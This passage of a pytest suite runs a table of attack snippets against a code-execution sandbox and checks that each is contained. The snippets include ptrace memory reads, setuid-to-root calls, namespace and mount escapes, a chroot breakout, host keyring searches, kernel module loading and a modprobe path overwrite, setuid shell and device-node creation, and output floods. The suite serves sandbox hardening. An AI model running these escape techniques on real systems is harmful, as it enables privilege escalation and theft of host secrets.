        os.kill(-1, signal.SIGKILL)
    """, harness_died_alone, via="suite"),
    Attack("ptrace-and-read-the-memory-of-the-server", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.restype = ctypes.c_long
        for pid in ($server_pid, $test_pid):
            for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
                if libc.ptrace(request, pid, None, None) == 0:
                    print('ATTACHED', pid)
                else:
                    print('refused', pid, os.strerror(ctypes.get_errno()))
            try:
                print('READ', open('/proc/%d/mem' % pid, 'rb').read(16))
            except OSError as error:
                print(type(error).__name__, pid)
    """, not_traced),
    # --- privileges
    Attack("setuid-and-setgid-to-root-with-ctypes", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for call, args in [('setuid', (0,)), ('setgid', (0,)), ('setresuid', (0, 0, 0)),
                           ('setresgid', (0, 0, 0)), ('seteuid', (0,)), ('setfsuid', (0,))]:
            print(call, getattr(libc, call)(*args), os.strerror(ctypes.get_errno()))
        try:
            os.setgroups([0])
        except OSError as error:
            print('setgroups', error)
        print('uid', os.getuid(), os.geteuid())
        if os.geteuid() == 0:
            print('ROOT')
        try:
            print('READ', open('$private/secret.txt').read())
        except OSError as error:
            print(type(error).__name__)
    """, still_nobody, readonly_private=True),
    Attack("unshare-mount-and-nested-sandboxes", """
        import ctypes, os, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        for flag, name in [(0x10000000, 'user'), (0x00020000, 'mount'), (0x20000000, 'pid'),
                           (0x40000000, 'net')]:
            if libc.unshare(flag) == 0:
                print('ALLOWED unshare', name)
            else:
                print('refused unshare', name, os.strerror(ctypes.get_errno()))
        for source, target, fstype in [(b'none', b'/tmp', b'tmpfs'), (b'/', b'/sandbox', None),
                                       (b'proc', b'/tmp', b'proc')]:
            if libc.mount(source, target, fstype, 4096 if fstype is None else 0, None) == 0:
                print('MOUNTED', source, target)
            else:
                print('refused mount', source, os.strerror(ctypes.get_errno()))
        for command in (['unshare', '-r', '-m', 'cat', '$canary'], ['mount', '--bind', '/', '/tmp'],
                        ['bwrap', '--bind', '/', '/', 'cat', '$canary'], ['nsenter', '-t', '1', '-a', 'id']):
            try:
                done = subprocess.run(command, capture_output=True, text=True, timeout=5)
                print('ALLOWED' if done.returncode == 0 else 'refused', command, done.stdout, done.stderr)
            except OSError as error:
                print('refused', command, type(error).__name__)
    """, no_new_namespace),
    Attack("chroot-breakout", """
        import os
        try:
            os.mkdir('jail')
            os.chroot('jail')
            print('chrooted')
        except OSError as error:
            print('refused chroot', error)
        fd = os.open('/', os.O_RDONLY)
        try:
            os.chroot('/tmp')
            os.fchdir(fd)
            for _ in range(64):
                os.chdir('..')
            os.chroot('.')
        except OSError as error:
            print('refused breakout', error)
        entries = os.listdir('/')
        if {'root', 'home', 'var'} & set(entries) or os.path.exists('$canary'):
            print('ESCAPED', entries)
        print('root', sorted(entries))
    """, still_in_the_sandbox_root),
    Attack("keyctl-keyrings", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        for ring in (-3, -4, -5):  # session, user, user-session keyrings
            key = libc.syscall(248, b'user', b'$marker', b'$key_secret', len(b'$key_secret'), ring)
            print('added' if key > 0 else 'refused', ring, os.strerror(ctypes.get_errno()))
        try:
            print(open('/proc/keys').read(), open('/proc/key-users').read())
        except OSError as error:
            print(error)
        for ring in (-3, -4, -5):  # search for host keys: nothing of the host's is there
            print('search', libc.syscall(250, 10, ring, b'user', b'codequorum', 0))
    """, lambda o, s, v: (key_stays_in_its_run(o, s, v), no_secret_in(o.text.replace(KEY_SECRET, '')))),
    Attack("read-the-host-session-keyring", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        for ring in (-3, -4, -5):  # the session keyring it inherited, the user keyrings
            key = libc.syscall(250, 10, ring, b'user', b'$tag', 0)  # KEYCTL_SEARCH
            print('search', ring, key, os.strerror(ctypes.get_errno()))
            if key > 0:
                buffer = ctypes.create_string_buffer(256)
                libc.syscall(250, 11, ctypes.c_long(key), buffer, 256)  # KEYCTL_READ
                print('READ', buffer.value)
        try:
            print(open('/proc/keys').read())
        except OSError as error:
            print(error)
    """, secrets_stay_home),
    Attack("load-a-kernel-module", """
        import ctypes, os, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        image = b'\\x7fELF' + b'\\0' * 60
        if libc.syscall(175, image, len(image), b'') == 0:  # init_module
            print('LOADED init_module')
        print('init_module', os.strerror(ctypes.get_errno()))
        with open('fake.ko', 'wb') as handle:
            handle.write(image)
        fd = os.open('fake.ko', os.O_RDONLY)
        if libc.syscall(313, fd, b'', 0) == 0:  # finit_module
            print('LOADED finit_module')
        print('finit_module', os.strerror(ctypes.get_errno()))
        for command in (['modprobe', '$marker'], ['insmod', 'fake.ko']):
            try:
                done = subprocess.run(command, capture_output=True, text=True)
                print('LOADED' if done.returncode == 0 else 'refused', command)
            except OSError as error:
                print('refused', command, type(error).__name__)
        try:
            open('/proc/sys/kernel/modprobe', 'w').write('/sandbox/evil')
            print('WROTE modprobe')
        except OSError as error:
            print(type(error).__name__)
    """, no_module_loaded),
    Attack("raise-the-rlimits", """
        import resource, subprocess
        for name in ('RLIMIT_AS', 'RLIMIT_CPU', 'RLIMIT_NPROC', 'RLIMIT_NOFILE', 'RLIMIT_FSIZE'):
            which = getattr(resource, name)
            soft, hard = resource.getrlimit(which)
            try:
                resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                print('RAISED', name)
            except (ValueError, OSError) as error:
                print('refused', name, error)
        done = subprocess.run(['prlimit', '--pid', '1', '--as=unlimited'], capture_output=True, text=True)
        print('RAISED prlimit' if done.returncode == 0 else 'refused prlimit', done.stderr)
        try:
            block = bytearray(1024 ** 3)
            print('ALLOCATED', len(block))
        except MemoryError:
            print('MemoryError')
    """, limits_held),
    Attack("setuid-files-and-device-nodes", """
        import os, shutil, stat
        shutil.copy('/usr/bin/python3', 'rootshell')
        os.chmod('rootshell', 0o6755)
        try:
            os.chown('rootshell', 0, 0)
            print('CHOWNED')
        except OSError as error:
            print('chown', error)
        for name, kind, device in [('sda', stat.S_IFBLK, os.makedev(8, 0)), ('mem', stat.S_IFCHR, os.makedev(1, 1))]:
            try:
                os.mknod(name, 0o666 | kind, device)
                print('MKNOD', name)
            except OSError as error:
                print('mknod', name, error)
    """, no_privileged_file, workdir=True),
    Attack("set-the-host-name-and-clock", """
        import ctypes, os, socket, time
        try:
            socket.sethostname('$marker'[:60])
            print('SET hostname')
        except OSError as error:
            print('hostname', error)
        try:
            time.clock_settime(time.CLOCK_REALTIME, 0)
            print('SET clock')
        except OSError as error:
            print('clock', error)
    """, host_name_and_clock_unchanged),
    # --- output
    Attack("flood-stdout-and-stderr", """
        import os
        chunk = b'x' * (1024 * 1024)
        for _ in range(40):
            os.write(1, chunk)
            os.write(2, chunk)
        os.write(1, b'y' * (20 * 1024 * 1024))  # one line without a newline
    """, output_capped),
    Attack("flood-through-the-test-harness", """
        import os, sys
        for _ in range(50):
            os.write(1, b'x' * (1024 * 1024))
            sys.stderr.write('y' * (1024 * 1024))
        raise RuntimeError('z' * (50 * 1024 * 1024))
    """, harness_output_capped, via="suite"),
]


def all_refused_quietly(outcome: Outcome) -> None:
    assert "OPENED" not in outcome.text, outcome.text


def attack_ids() -> list[str]:
    return [attack.id for attack in ATTACKS]


@pytest.mark.parametrize("attack", ATTACKS, ids=attack_ids())
def test_attack_is_contained_and_the_server_unharmed(attack: Attack, scene: Scene,
                                                     server: RunningServer) -> None:
    host_key = add_host_key(scene.tag, KEY_SECRET)  # as a server's session might hold one
    try:
        outcome = launch(attack, scene, server)
    finally:
        if host_key > 0:
            unlink_host_key(host_key)
    if outcome.result is not None:
        assert outcome.result.sandboxed
    attack.check(outcome, scene, server)
    canary_intact(scene)
    server.assert_healthy()


def test_the_attack_table_is_large_and_names_are_unique() -> None:
    assert len(ATTACKS) >= 30 and len(set(attack_ids())) == len(ATTACKS)
